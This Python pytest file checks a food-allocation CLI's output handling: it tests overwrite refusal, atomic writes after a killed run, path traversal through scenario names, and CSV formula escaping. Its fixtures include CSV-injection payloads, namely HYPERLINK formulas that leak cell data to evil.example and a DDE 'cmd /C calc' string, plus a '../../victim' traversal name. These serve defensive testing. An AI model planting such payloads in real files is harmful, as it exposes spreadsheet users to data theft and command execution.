"""Nothing lost, nothing wrong, nothing silent: every command's ``--out`` follows one policy,
a killed run leaves nothing behind, scenario names cannot escape ``--out``, CSV outputs cannot
run spreadsheet formulas, and errors keep their square brackets."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from dashboard.cli import main
from optimize.solution import AllocationSolution
from tests.helpers import grid_region

ROOT = Path(__file__).resolve().parents[2]
EVIL_SITE = '=HYPERLINK("http://evil.example/?leak="&A1,"Eastside Hub")'
EVIL_AREA = "=cmd|' /C calc'!A0"
EVIL_SCENARIO = '=HYPERLINK("http://evil.example","Baseline")'


@pytest.fixture(scope="module")
def city(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The grid city with formula-like names, as a region folder, and scenarios on it."""
    root = tmp_path_factory.mktemp("policy")
    grid = grid_region()
    areas = grid.areas.copy()
    areas.loc[areas["area_id"] == "a0", "name"] = EVIL_AREA
    sites = grid.sites.copy()
    sites.loc[sites["site_id"] == "h1", "name"] = EVIL_SITE
    grid.with_tables(areas=areas, sites=sites).to_dir(root / "city")
    scenarios = {
        "a.toml": 'name = "a"\nregion = "city"\nobjective = "cost"\n',
        "b.toml": 'name = "b"\nregion = "city"\nobjective = "coverage"\n',
        "victim.toml": 'name = "../../victim"\nregion = "city"\nobjective = "cost"\n',
        "evil.toml": f'name = {json.dumps(EVIL_SCENARIO)}\nregion = "city"\n',
        "slash1.toml": 'name = "x/y"\nregion = "city"\n',
        "slash2.toml": 'name = "x y"\nregion = "city"\n',
    }
    for name, text in scenarios.items():
        (root / name).write_text(text, encoding="utf-8")
    return root


def user_folder(path: Path) -> Path:
    path.mkdir(parents=True)
    (path / "thesis.docx").write_text("years of work")
    (path / "sub").mkdir()
    (path / "sub" / "data.csv").write_text("1,2")
    return path


def assert_untouched(path: Path) -> None:
    assert (path / "thesis.docx").read_text() == "years of work"
    assert (path / "sub" / "data.csv").read_text() == "1,2"
    assert not [p for p in path.parent.iterdir() if p.name.startswith(f".{path.name}.")]


def one_line_refusal(err: str, folder: Path) -> None:
    text = err.strip()
    assert "\n" not in text, text
    assert str(folder) in text and "--force" in text and "unexpected" not in text


# ------------------------------------------------------------------- data loss
@pytest.mark.parametrize(
    "command",
    [
        ["analyze", "{city}/city"],
        ["allocate", "{city}/city"],
        ["allocate", "{city}/a.toml", "{city}/b.toml"],
        ["report", "{city}/a.toml"],
        ["demo"],
    ],
    ids=["analyze", "allocate", "allocate-set", "report", "demo"],
)
def test_every_command_refuses_a_folder_of_other_files(
    command: list[str], city: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = user_folder(tmp_path / "mine")
    args = [a.format(city=city) for a in command]
    assert main([*args, "--out", str(out)]) == 1
    one_line_refusal(capsys.readouterr().err, out)
    assert_untouched(out)


def test_force_replaces_and_a_rerun_replaces_its_own_output(city: Path, tmp_path: Path) -> None:
    out = user_folder(tmp_path / "mine")
    assert main(["allocate", str(city / "city"), "--out", str(out), "--force"]) == 0
    assert not (out / "thesis.docx").exists() and (out / "flows.csv").is_file()
    marker = json.loads((out / ".foodshed-output.json").read_text())
    assert marker["command"] == "allocate" and "flows.csv" in marker["files"]
    assert main(["allocate", str(city / "city"), "--out", str(out), "--objective", "maxmin"]) == 0
    assert json.loads((out / "manifest.json").read_text())["objective"] == "maxmin"
    assert main(["report", str(city / "a.toml"), "--out", str(out)]) == 1  # not report's


@pytest.mark.parametrize(
    ("command", "name"),
    [
        (["analyze", "{city}/city"], "existing"),  # no suffix: a folder of outputs
        (["allocate", "{city}/city"], "existing.txt"),
        (["report", "{city}/a.toml"], "existing.txt"),
        (["demo"], "existing.txt"),
    ],
    ids=["analyze", "allocate", "report", "demo"],
)
def test_an_existing_file_never_becomes_a_folder(
    command: list[str],
    name: str,
    city: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    f = tmp_path / name
    f.write_text("keep me")
    args = [a.format(city=city) for a in command]
    for force in ([], ["--force"]):
        assert main([*args, "--out", str(f), *force]) == 1
        assert f"{name} is a file, not a folder" in capsys.readouterr().err
        assert f.read_text() == "keep me"
    assert [p.name for p in tmp_path.iterdir()] == [name]


def test_analyze_single_file_is_not_overwritten_unless_it_wrote_it(
    city: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "areas.csv"
    out.write_text("a user's spreadsheet")
    assert main(["analyze", str(city / "city"), "--out", str(out)]) == 1
    assert "areas.csv already exist" in capsys.readouterr().err
    assert out.read_text() == "a user's spreadsheet"
    assert main(["analyze", str(city / "city"), "--out", str(out), "--force"]) == 0
    assert main(["analyze", str(city / "city"), "--out", str(out)]) == 0  # its own output now


def test_a_scenario_name_cannot_write_outside_out(
    city: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    work = tmp_path / "work"
    victim = user_folder(work / "victim")
    out = work / "deep" / "plans"
    args = [str(city / "a.toml"), str(city / "victim.toml")]
    assert main(["allocate", *args, "--out", str(out)]) == 0
    assert_untouched(victim)
    assert sorted(p.name for p in out.iterdir()) == [".foodshed-output.json", "a", "victim"]
    assert (out / "victim" / "flows.csv").is_file()
    assert "../../victim -> " in " ".join(capsys.readouterr().out.split())
    # two names that make the same file name get two folders
    out2 = tmp_path / "plans2"
    args = [str(city / "slash1.toml"), str(city / "slash2.toml")]
    assert main(["allocate", *args, "--out", str(out2)]) == 0
    assert sorted(p.name for p in out2.iterdir()) == [".foodshed-output.json", "x-y", "x-y-2"]


def test_allocate_swaps_the_set_of_plans_as_a_whole(
    city: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "plans"
    args = [str(city / "a.toml"), str(city / "b.toml")]
    assert main(["allocate", *args, "--out", str(out), "--objective", "cost"]) == 0
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    real = AllocationSolution.write_files
    calls: list[int] = []

    def fail_on_second(self, folder, *, region=None):
        calls.append(1)
        if len(calls) == 2:
            raise OSError(28, "No space left on device", str(folder))
        return real(self, folder, region=region)

    monkeypatch.setattr(AllocationSolution, "write_files", fail_on_second)
    assert main(["allocate", *args, "--out", str(out), "--objective", "maxmin"]) == 1
    assert len(calls) == 2  # the first new plan was written, the second failed
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plans"]


def test_a_report_killed_mid_write_is_cleaned_up_by_the_next_run(
    city: Path, tmp_path: Path
) -> None:
    """SIGKILL during `report`: the earlier set stays whole, the partial set is hidden, and
    the next run removes it and writes a complete set."""
    out = tmp_path / "R"
    names = ["a.toml", "b.toml", "evil.toml", "victim.toml", "slash1.toml", "slash2.toml"]
    cmd = [sys.executable, "-m", "dashboard.cli", "report", *(str(city / n) for n in names)]
    cmd += ["--out", str(out)]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(cmd, cwd=tmp_path, env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    proc = subprocess.Popen(cmd, cwd=tmp_path, env=env, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)  # fmt: skip
    partial: list[Path] = []
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline and proc.poll() is None:
        partial = [p for p in tmp_path.glob(".R.*.tmp") if any(p.glob("*.html"))]
        if partial:
            break
        time.sleep(0.05)
    assert partial, "the report run never started writing"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert proc.returncode == -signal.SIGKILL
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # old set untouched
    assert [p for p in tmp_path.glob(".R.*.tmp")]  # the killed run left its partial set

    again = subprocess.run(cmd, cwd=tmp_path, env=env, capture_output=True, text=True)
    assert again.returncode == 0, again.stderr
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".")]
    summary = json.loads((out / "summary.json").read_text())
    assert summary["n_ok"] == len(names)
    for s in summary["scenarios"]:
        assert (out / s["report"]).is_file()


# ------------------------------------------------------------------- crashes
@pytest.fixture
def spec() -> Path:
    return ROOT / "optimize" / "sweeps" / "demo_fairness.toml"


def test_sweep_out_errors_are_plain(
    spec: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    f = tmp_path / "existing_file"
    f.write_text("keep")
    cases = [(str(f), "is a file, not a folder"), (".", "is the current folder")]
    if Path("/proc/self").exists():
        cases.append(("/proc/x", "cannot write to /proc"))
    monkeypatch.chdir(tmp_path)
    for out, needle in cases:
        assert main(["sweep", str(spec), "--out", out]) == 1
        err = capsys.readouterr().err
        assert needle in err and "unexpected" not in err and "Traceback" not in err
    assert f.read_text() == "keep"
    mine = user_folder(tmp_path / "mine")
    assert main(["sweep", str(spec), "--out", str(mine)]) == 1
    one_line_refusal(capsys.readouterr().err, mine)
    assert_untouched(mine)


@pytest.fixture
def no_server(monkeypatch: pytest.MonkeyPatch) -> None:
    """Starting the server is a failure here: bad options must stop the command before it."""

    def serve(*args, **kwargs):
        msg = "the server was started"
        raise AssertionError(msg)

    monkeypatch.setattr("dashboard.app.serve", serve)


@pytest.mark.usefixtures("no_server")
def test_dashboard_port_out_of_range_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["dashboard", "--port", "99999"]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "Invalid value for '--port'" in err and "65535" in err


@pytest.mark.usefixtures("no_server")
def test_dashboard_port_in_use_fails_before_printing_the_address(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        assert main(["dashboard", "--port", str(port)]) == 1
    out = capsys.readouterr()
    assert f"port {port} on 127.0.0.1 is already in use" in out.err and "--port" in out.err
    assert "http://" not in out.out + out.err


@pytest.mark.usefixtures("no_server")
def test_unknown_basemap_lists_the_choices(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["dashboard", "--basemap", "google"]) == 1
    err = " ".join(capsys.readouterr().err.split())
    assert "--basemap 'google' is not a map style" in err
    assert "white-bg" in err and "carto-positron" in err and "open-street-map" in err


# ------------------------------------------------------------------- square brackets
def test_square_brackets_survive_in_console_errors(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "region"
    grid_region().to_dir(folder)
    (folder / "region.toml").write_text('[stores]\nfile = "nope.csv"\n')
    assert main(["analyze", str(folder)]) == 1
    err = " ".join(capsys.readouterr().err.split())
    assert "stores.file = 'nope.csv'" in err and "nope.csv does not exist" in err
    bad = tmp_path / "bad.toml"
    bad.write_text('name = "x"\n[[shocks]]\nsite_ids = ["h1"]\n')
    assert main(["allocate", str(bad), "--out", str(tmp_path / "p")]) == 1
    assert "each [[shocks]] entry needs kind" in " ".join(capsys.readouterr().err.split())


# ------------------------------------------------------------------- CSV injection
def test_no_csv_output_carries_a_live_formula(city: Path, tmp_path: Path) -> None:
    assert main(["allocate", str(city / "a.toml"), "--out", str(tmp_path / "plan")]) == 0
    flows = pd.read_csv(tmp_path / "plan" / "flows.csv")
    assert f"'{EVIL_SITE}" in set(flows["site_name"])
    assert main(["analyze", str(city / "city"), "--out", str(tmp_path / "an")]) == 0
    areas = pd.read_csv(tmp_path / "an" / "areas.csv")
    assert f"'{EVIL_AREA}" in set(areas["name"])
    out = tmp_path / "rep"
    assert main(["report", str(city / "evil.toml"), "--out", str(out)]) == 0
    kpis = pd.read_csv(out / "kpis.csv")
    assert list(kpis["scenario"]) == [f"'{EVIL_SCENARIO}"]
    for csv in tmp_path.rglob("*.csv"):
        for cell in pd.read_csv(csv, dtype=str).stack():
            assert not str(cell).startswith(("=", "+", "@", "\t", "\r")), (csv, cell)
